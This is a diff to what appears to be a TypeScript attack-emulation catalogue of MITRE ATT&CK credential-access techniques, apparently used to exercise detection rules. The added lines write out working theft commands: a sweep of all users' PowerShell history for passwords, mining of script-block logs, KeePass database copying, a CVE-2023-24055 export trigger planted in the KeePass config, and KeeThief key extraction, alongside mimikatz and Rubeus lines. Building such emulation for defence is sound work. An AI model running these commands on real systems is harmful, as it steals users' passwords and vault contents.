@@ -53,12 +53,32 @@ export const credentialAccess2 = [
       ]),
     ],
   ),
-  t("T1552.003", "Shell history", "PSReadLine history read for typed secrets.", [
-    v("psreadline", [
-      "cmd.exe /c type %APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
-    ]),
-    v("get-content", [{ ps: "Get-Content (Get-PSReadlineOption).HistorySavePath" }], { shell: "ps" }),
-  ]),
+  t(
+    "T1552.003",
+    "Shell history",
+    "PSReadLine history files and PowerShell script-block logs read for typed secrets.",
+    [
+      // Every profile's PSReadLine history swept from cmd (what the Sigma rule on ConsoleHost_history.txt sees).
+      v("psreadline-all-users", [
+        'cmd.exe /c for /d %u in (C:\\Users\\*) do @type "%u\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt" 2>nul | findstr /i "pass secret -Credential ConvertTo-SecureString"',
+      ]),
+      v(
+        "get-content-history",
+        [
+          {
+            ps: "Get-History; Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String -Pattern 'password','-AsPlainText','net use'",
+            reads: ["{{appdata}}\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"],
+          },
+        ],
+        { shell: "ps" },
+      ),
+      // Script-block logging keeps what admins typed: 4104 events mined for credentials (Seatbelt-style).
+      v("scriptblock-log", [
+        'wevtutil qe Microsoft-Windows-PowerShell/Operational /q:"*[System[EventID=4104]]" /f:text /rd:true /c:2000 > {{tmp}}\\sb.txt',
+        'findstr /i "password ConvertTo-SecureString PSCredential" {{tmp}}\\sb.txt',
+      ]),
+    ],
+  ),
   t("T1552.004", "Private keys", "Certificates with private keys exported or key files collected.", [
     v("certutil-exportpfx", ["certutil -exportPFX -p Passw0rd! My {{rand2}} {{tmp}}\\cert.pfx"]),
     v("dir-keys", ["cmd.exe /c dir /s /b C:\\*.pfx C:\\*.p12 C:\\*.pem C:\\*id_rsa*"]),
@@ -125,55 +145,58 @@ export const credentialAccess2 = [
       v("mimikatz-vault", ['{{tools}}\\mimikatz.exe "vault::cred /patch" exit']),
     ],
   ),
-  t("T1555.005", "Password managers", "KeePass database and config stolen, or the KeeThief/KeeFarce path.", [
-    v("keepass-copy", [
-      {
-        cmd: 'cmd.exe /c copy "{{home}}\\Documents\\Database.kdbx" {{tmp}}',
-        reads: ["{{home}}\\Documents\\Database.kdbx"],
-      },
-    ]),
-    v("keepass-config", [
-      {
-        cmd: 'cmd.exe /c type "{{appdata}}\\KeePass\\KeePass.config.xml"',
-        reads: ["{{appdata}}\\KeePass\\KeePass.config.xml"],
-      },
-    ]),
-  ]),
-  t("T1557", "Adversary-in-the-middle", "Inveigh/Responder-style poisoning on a workstation.", [
-    v(
-      "inveigh",
-      [{ ps: "Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y -HTTPS Y -Proxy Y", net: [["@dc", 445]] }],
-      { shell: "ps", elevated: true },
-    ),
-  ]),
   t(
-    "T1557.001",
-    "LLMNR/NBT-NS poisoning and SMB relay",
-    "Inveigh, Responder for Windows or ntlmrelayx capturing hashes.",
+    "T1555.005",
+    "Password managers",
+    "KeePass databases found and copied, the config given an export trigger, or the master key pulled from memory (KeeThief).",
     [
+      v("keepass-copy", [
+        "cmd.exe /c dir /s /b C:\\Users\\*.kdbx",
+        {
+          cmd: 'cmd.exe /c copy "{{home}}\\Documents\\Database.kdbx" {{tmp}}\\db.kdbx',
+          reads: ["{{home}}\\Documents\\Database.kdbx"],
+          files: ["{{tmp}}\\db.kdbx"],
+        },
+      ]),
+      // CVE-2023-24055: an export-on-open trigger written into KeePass.config.xml; KeePass itself later dumps the
+      // database in clear text when the user unlocks it.
       v(
-        "inveigh",
+        "keepass-trigger",
         [
           {
-            ps: "Import-Module .\\Inveigh.ps1; Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
+            ps: "$p = \"$env:APPDATA\\KeePass\\KeePass.config.xml\"; $x = [xml](Get-Content $p); $t = $x.CreateElement('Trigger'); $t.InnerXml = '<Guid>{{rand2}}</Guid><Name>Sync</Name><Events><Event><TypeGuid>5f8TBoW4QYm5BvaeKztApw==</TypeGuid></Event></Events><Actions><Action><TypeGuid>D5prW87VRr65NO2xP5RIIg==</TypeGuid><Parameters><Parameter>{{tmp}}\\kp.xml</Parameter><Parameter>KeePass XML (2.x)</Parameter></Parameters></Action></Actions>'; $x.Configuration.Application.TriggerSystem.Triggers.AppendChild($t); $x.Save($p)",
+            then: [{ id: "save", kind: "file.modify", path: "{{appdata}}\\KeePass\\KeePass.config.xml" }],
+          },
+          {
+            cmd: '"C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe"',
+            parent: "@explorer",
+            delay: 60000,
+            reads: ["{{home}}\\Documents\\Database.kdbx"],
+            files: ["{{tmp}}\\kp.xml"],
           },
         ],
-        { shell: "ps", elevated: true },
+        { shell: "ps" },
       ),
-      v("inveigh-exe", ["{{tools}}\\Inveigh.exe -LLMNR Y -NBNS Y -FileOutput Y"], { elevated: true }),
+      // KeeThief injects into the running KeePass and reads the DPAPI-protected master key material back.
+      v(
+        "keethief",
+        [
+          {
+            cmd: '"C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe"',
+            parent: "@explorer",
+            as: "kp",
+            keep: true,
+          },
+          {
+            ps: "Import-Module .\\KeeThief.ps1; Get-Process KeePass | Get-KeePassDatabaseKey -Verbose",
+            access: ["kp", "0x1fffff"],
+            thread: "kp",
+          },
+        ],
+        { shell: "ps" },
+      ),
     ],
   ),
-  t("T1557.002", "ARP cache poisoning", "An ARP spoofing tool run on the host (arpspoof/Bettercap).", [
-    v(
-      "bettercap",
-      ['{{tools}}\\bettercap.exe -eval "set arp.spoof.targets {{srvip}}; arp.spoof on; net.sniff on"'],
-      { elevated: true },
-    ),
-    v("arp-static", ["arp -s {{srvip}} 00-15-5d-{{rand}}"], { elevated: true }),
-  ]),
-  t("T1557.003", "DHCP spoofing", "A rogue DHCP server started on the host.", [
-    v("rogue-dhcp", ["{{tools}}\\dhcpsrv.exe -runapp"], { elevated: true }),
-  ]),
   t("T1558", "Kerberos ticket theft/forgery", "Tickets dumped and requested with Rubeus.", [
     v("rubeus-dump", [{ cmd: "{{tools}}\\Rubeus.exe dump /nowrap", access: ["@lsass", "0x1010"] }], {
       elevated: true,
@@ -311,6 +334,7 @@ export const credentialAccess2 = [
               user: "@user",
               source: "@workstation",
               encryption: "0x17",
+              preAuthType: "0",
             },
           ],
         },
